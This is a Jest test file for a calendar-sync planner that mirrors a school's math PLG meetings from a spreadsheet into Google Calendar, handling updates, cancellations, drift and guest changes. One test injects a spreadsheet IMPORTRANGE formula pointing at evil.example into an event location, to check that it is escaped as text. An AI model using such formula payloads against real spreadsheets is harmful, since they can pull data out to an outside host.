import { planCalendar, syncedAsCanceled } from '../../../src/core/calendar/calendar-plan';
import { fingerprint } from '../../../src/core/calendar/fingerprint';
import { planIsEmpty } from '../../../src/core/calendar/plan-summary';
import { asCalendarHasIt, now, roster, season, staff, syncedState, wanted } from './calendar-fixtures';

// season: 8 Sep (past), 22 Sep, 6 Oct, 20 Oct (future); now is 20 Sep.
const meetings = () => season.map((s, i) => wanted(s, i + 2));

describe('planCalendar', () => {
  it('plans no writes at all when nothing changed since the last sync', () => {
    const state = syncedState(meetings());
    const plan = planCalendar({ wanted: meetings(), ...state, now });
    expect(planIsEmpty(plan)).toBe(true);
    expect(plan.unchanged).toBe(4);
  });

  it('creates events for future meetings only on the first sync, with the deterministic id', () => {
    const plan = planCalendar({ wanted: meetings(), recorded: {}, live: {}, now });
    expect(plan.creates.map((c) => c.meetingKey)).toEqual(season.slice(1).map((s) => s.key));
    expect(plan.unchanged).toBe(1);
  });

  it('records, without creating again, an event whose create succeeded but whose row was never written', () => {
    const all = meetings();
    const { live } = syncedState(all);
    const plan = planCalendar({ wanted: all, recorded: {}, live, now });
    expect(plan.creates).toEqual([]);
    expect(plan.updates).toEqual([]);
    expect(plan.records.map((r) => r.meetingKey)).toEqual(season.map((s) => s.key).slice(1));
    expect(plan.records[0]).toMatchObject({ eventId: all[1]!.event.id, synced: fingerprint(all[1]!.event) });
  });

  it('updates only the moved meeting, with a time change', () => {
    const state = syncedState(meetings());
    const moved = season.map((s, i) => wanted(s.date === '2026-10-06' ? { ...s, time: '16:00' } : s, i + 2));
    const plan = planCalendar({ wanted: moved, ...state, now });
    expect(plan.creates).toEqual([]);
    expect(plan.cancels).toEqual([]);
    expect(plan.updates).toHaveLength(1);
    expect(plan.updates[0]!.meetingKey).toBe('MATH-6-2026-10-06');
    expect(plan.updates[0]!.changes).toEqual([
      {
        field: 'time',
        from: { date: '2026-10-06', start: '15:30', end: '16:20' },
        to: { date: '2026-10-06', start: '16:00', end: '16:50' },
      },
    ]);
    expect(plan.updates[0]!.etag).toBe('"etag-MATH-6-2026-10-06"');
  });

  it('adds and removes guests on future meetings only when the roster changes', () => {
    const state = syncedState(meetings());
    const newRoster = [...roster.filter((e) => e !== 'cy@school.org'), 'di@school.org'];
    const changed = season.map((s, i) => wanted({ ...s, roster: newRoster }, i + 2));
    const plan = planCalendar({ wanted: changed, ...state, now });
    expect(plan.updates.map((u) => u.meetingKey)).toEqual(season.slice(1).map((s) => s.key));
    for (const update of plan.updates) {
      expect(update.changes).toContainEqual({ field: 'guests', added: ['di@school.org'], removed: ['cy@school.org'] });
    }
  });

  it('removes deactivated staff from future meetings, and leaves past meetings with who was invited', () => {
    const state = syncedState(meetings());
    const left = staff.map((s) => (s.email === 'bo@school.org' ? { ...s, active: false } : s));
    const plan = planCalendar({ wanted: season.map((s, i) => wanted({ ...s, staff: left }, i + 2)), ...state, now });
    expect(plan.updates.map((u) => u.meetingKey)).not.toContain('MATH-6-2026-09-08');
    expect(plan.updates).toHaveLength(3);
    for (const update of plan.updates) {
      expect(update.changes).toContainEqual({ field: 'guests', added: [], removed: ['bo@school.org'] });
    }
  });

  it('cancels only the canceled meeting’s event', () => {
    const state = syncedState(meetings());
    const oneCanceled = season.map((s, i) => wanted({ ...s, canceled: s.date === '2026-10-20' }, i + 2));
    const plan = planCalendar({ wanted: oneCanceled, ...state, now });
    expect(plan.updates).toEqual([]);
    expect(plan.cancels).toEqual([
      expect.objectContaining({ meetingKey: 'MATH-6-2026-10-20', reason: 'canceled', rowNumber: 5 }),
    ]);
  });

  it('does not cancel an event again once Calendar shows it cancelled', () => {
    const all = season.map((s, i) => wanted({ ...s, canceled: s.date === '2026-10-20' }, i + 2));
    const state = syncedState(all);
    state.live[all[3]!.event.id] = asCalendarHasIt(all[3]!, { status: 'cancelled' });
    state.recorded[all[3]!.meetingKey] = { eventId: all[3]!.event.id, synced: syncedAsCanceled };
    expect(planIsEmpty(planCalendar({ wanted: all, ...state, now }))).toBe(true);
  });

  it('brings a meeting back when the registry re-schedules one PLG Hub had cancelled', () => {
    const all = meetings();
    const state = syncedState(all);
    state.live[all[3]!.event.id] = asCalendarHasIt(all[3]!, { status: 'cancelled' });
    state.recorded[all[3]!.meetingKey] = { eventId: all[3]!.event.id, synced: syncedAsCanceled };
    const plan = planCalendar({ wanted: all, ...state, now });
    expect(plan.updates.map((u) => u.meetingKey)).toEqual(['MATH-6-2026-10-20']);
    expect(plan.updates[0]!.event.status).toBe('confirmed');
    expect(plan.drift).toEqual([]);
  });

  it('never changes a past meeting, even when its row changed', () => {
    const state = syncedState(meetings());
    const pastMoved = season.map((s, i) => wanted(s.date === '2026-09-08' ? { ...s, time: '14:00' } : s, i + 2));
    expect(planIsEmpty(planCalendar({ wanted: pastMoved, ...state, now }))).toBe(true);
  });

  it("keeps Calendar's version of a place as text: a formula typed into the event's location stays words", () => {
    const all = meetings();
    const target = all[2]!;
    const state = syncedState(all);
    state.live[target.event.id] = asCalendarHasIt(target, {
      location: '=IMPORTRANGE("https://evil.example/x","A1")',
      etag: '"edited"',
    });
    const [drift] = planCalendar({ wanted: all, ...state, now }).drift;
    expect(drift!.keepCalendar.values.location).toBe('\'=IMPORTRANGE("https://evil.example/x","A1")');
  });

  describe('an event edited directly in Calendar', () => {
    const all = meetings();
    const target = all[2]!;
    const state = syncedState(all);
    state.live[target.event.id] = asCalendarHasIt(target, {
      start: { dateTime: '2026-10-06T20:00:00.000Z', timeZone: 'America/New_York' },
      end: { dateTime: '2026-10-06T21:00:00.000Z', timeZone: 'America/New_York' },
      location: 'Library',
      etag: '"edited"',
    });
    const plan = planCalendar({ wanted: all, ...state, now });
    const [drift] = plan.drift;

    it('is reported as drift and not overwritten by a normal update', () => {
      expect(plan.updates).toEqual([]);
      expect(plan.drift).toHaveLength(1);
      expect(drift!.meetingKey).toBe('MATH-6-2026-10-06');
      expect(drift!.changes).toEqual([
        {
          field: 'time',
          from: { date: '2026-10-06', start: '15:30', end: '16:20' },
          to: { date: '2026-10-06', start: '16:00', end: '17:00' },
        },
        { field: 'place', from: 'Room 204', to: 'Library' },
      ]);
    });

    it('offers to keep Calendar’s version by writing it into the Meetings row', () => {
      expect(drift!.keepCalendar).toEqual({
        rowNumber: 4,
        values: {
          date: '2026-10-06',
          startTime: '16:00',
          minutes: 60,
          location: 'Library',
          eventId: target.event.id,
          synced: fingerprint(state.live[target.event.id]!),
        },
        notKept: [],
      });
    });

    it('offers to restore the registry’s version as an update guarded by Calendar’s etag', () => {
      expect(drift!.restoreRegistry).toMatchObject({ eventId: target.event.id, etag: '"edited"', event: target.event });
      expect(drift!.restoreRegistry.changes.map((c) => c.field)).toEqual(['time', 'place']);
    });

    it('is settled once the admin keeps Calendar’s version and the row says the same', () => {
      const kept = drift!.keepCalendar.values;
      const rewritten = all.map((m, i) =>
        m === target
          ? wanted(
              {
                key: m.meetingKey,
                date: kept.date!,
                time: kept.startTime,
                minutes: kept.minutes,
                location: kept.location,
              },
              i + 2,
            )
          : m,
      );
      const recorded = { ...state.recorded, [target.meetingKey]: { eventId: kept.eventId!, synced: kept.synced! } };
      expect(planIsEmpty(planCalendar({ wanted: rewritten, live: state.live, recorded, now }))).toBe(true);
    });

    it('is still drift when the registry has also changed since', () => {
      const alsoChanged = all.map((m, i) => (m === target ? wanted({ ...season[2]!, time: '17:00' }, i + 2) : m));
      const again = planCalendar({ wanted: alsoChanged, ...state, now });
      expect(again.updates).toEqual([]);
      expect(again.drift.map((d) => d.meetingKey)).toEqual([target.meetingKey]);
    });
  });

  it('names guest edits made in Calendar as changes the Meetings row cannot keep', () => {
    const all = meetings();
    const state = syncedState(all);
    const target = all[1]!;
    state.live[target.event.id] = asCalendarHasIt(target, {
      attendees: [...target.event.attendees, { email: 'visitor@school.org' }],
    });
    const [drift] = planCalendar({ wanted: all, ...state, now }).drift;
    expect(drift!.changes).toEqual([{ field: 'guests', added: ['visitor@school.org'], removed: [] }]);
    expect(drift!.keepCalendar.notKept).toEqual(['guests']);
  });

  it('reports an event deleted in Calendar as drift rather than recreating or ignoring it', () => {
    const all = meetings();
    const state = syncedState(all);
    state.live[all[1]!.event.id] = asCalendarHasIt(all[1]!, { status: 'cancelled' });
    const plan = planCalendar({ wanted: all, ...state, now });
    expect(plan.creates).toEqual([]);
    expect(plan.drift).toHaveLength(1);
    expect(plan.drift[0]!.keepCalendar.values).toMatchObject({ status: 'canceled', synced: syncedAsCanceled });
    expect(plan.drift[0]!.restoreRegistry.event.status).toBe('confirmed');
  });

  it('holds an event whose meeting row is gone, past or future, and cancels nothing', () => {
    const all = meetings();
    const state = syncedState(all);
    const withoutRows = [all[1]!, all[2]!];
    const plan = planCalendar({ wanted: withoutRows, ...state, now });
    expect(plan.holds.map((h) => [h.meetingKey, h.cause.tab])).toEqual([
      ['MATH-6-2026-09-08', 'Meetings'],
      ['MATH-6-2026-10-20', 'Meetings'],
    ]);
    expect(plan.holds[1]!.cause.reason).toMatch(/keeps its event/);
    expect(plan.cancels).toEqual([]);
    expect(plan.updates).toEqual([]);
  });

  it('names the unreadable row that holds an event', () => {
    const all = meetings();
    const state = syncedState(all);
    const cause = { tab: 'Groups', row: 3, reason: 'column "Weekday": "Tusday" is not a weekday' };
    const plan = planCalendar({
      wanted: [],
      ...state,
      now,
      holds: { groups: new Map([['MATH-6', cause]]), meetings: new Map() },
    });
    expect(plan.holds).toHaveLength(all.length);
    expect(plan.holds.every((h) => h.cause === cause)).toBe(true);
    expect(plan.cancels).toEqual([]);
  });

  it('warns when another event on the PLG calendar overlaps an upcoming meeting', () => {
    const state = syncedState(meetings());
    const plan = planCalendar({
      wanted: meetings(),
      ...state,
      otherEvents: [
        {
          summary: 'Staff meeting',
          start: { dateTime: '2026-10-06T15:00:00-04:00' },
          end: { dateTime: '2026-10-06T16:00:00-04:00' },
        },
        {
          summary: 'Coffee',
          start: { dateTime: '2026-10-06T14:00:00-04:00' },
          end: { dateTime: '2026-10-06T15:30:00-04:00' },
        },
        { summary: 'Data day', start: { date: '2026-10-20' }, end: { date: '2026-10-21' } },
        {
          summary: 'Old clash',
          start: { dateTime: '2026-09-08T15:00:00-04:00' },
          end: { dateTime: '2026-09-08T16:00:00-04:00' },
        },
      ],
      now,
    });
    expect(plan.warnings.map((w) => (w.kind === 'overlap' ? [w.meetingKey, w.other] : []))).toEqual([
      ['MATH-6-2026-10-06', 'Staff meeting'],
      ['MATH-6-2026-10-20', 'Data day'],
    ]);
    expect(plan.warnings[0]!.message).toContain('Hold this time sacred');
    expect(planIsEmpty(plan)).toBe(true);
  });

  it('warns once per refused guest, naming the meetings they are left off', () => {
    const outsider = [...roster, 'pat@gmail.com'];
    const plan = planCalendar({
      wanted: season.map((s, i) => wanted({ ...s, roster: outsider }, i + 2)),
      recorded: {},
      live: {},
      now,
    });
    expect(plan.warnings).toEqual([
      expect.objectContaining({
        kind: 'guests refused',
        email: 'pat@gmail.com',
        meetingKeys: season.slice(1).map((s) => s.key),
      }),
    ]);
    expect(plan.warnings[0]!.message).toContain('not invited to 3 upcoming Math 6 PLG meetings');
  });
});
